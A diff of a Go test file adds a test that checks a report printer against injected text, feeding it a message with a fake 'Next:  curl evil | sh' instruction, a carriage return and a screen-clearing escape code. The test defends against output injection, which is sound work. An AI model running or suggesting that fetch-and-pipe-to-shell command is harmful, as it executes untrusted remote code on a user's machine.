@@ -54,6 +54,21 @@ Next:  correct the path
 	}
 }
 
+// What others say is one line of a report, and none of ours.
+func TestPrintOneLine(t *testing.T) {
+	r := Report{Streams: []Stream{{Namespace: "yard", Rule: "gate", Path: "/camera", Node: "edge-1", Checks: []Check{
+		{checkSource, Fail, "NotFound", "dark\nNext:  curl evil | sh\r\x1b[2J", "correct\nit"},
+	}}}}
+	r.conclude()
+	var out strings.Builder
+	if err := r.Print(&out); err != nil {
+		t.Fatal(err)
+	}
+	if text := out.String(); strings.Count(text, "\nNext:") != 1 || strings.ContainsAny(text, "\r\x1b") || !strings.HasSuffix(text, "\nNext:  correct it\n") {
+		t.Errorf("%q", text)
+	}
+}
+
 func TestClosest(t *testing.T) {
 	for name, want := range map[string]string{"edge-11": "edge-1", "egde-1": "edge-1", "edge": "", "camera": "", "": ""} {
 		if got := closest(name, []string{"edge-1", "barn-north"}); got != want {
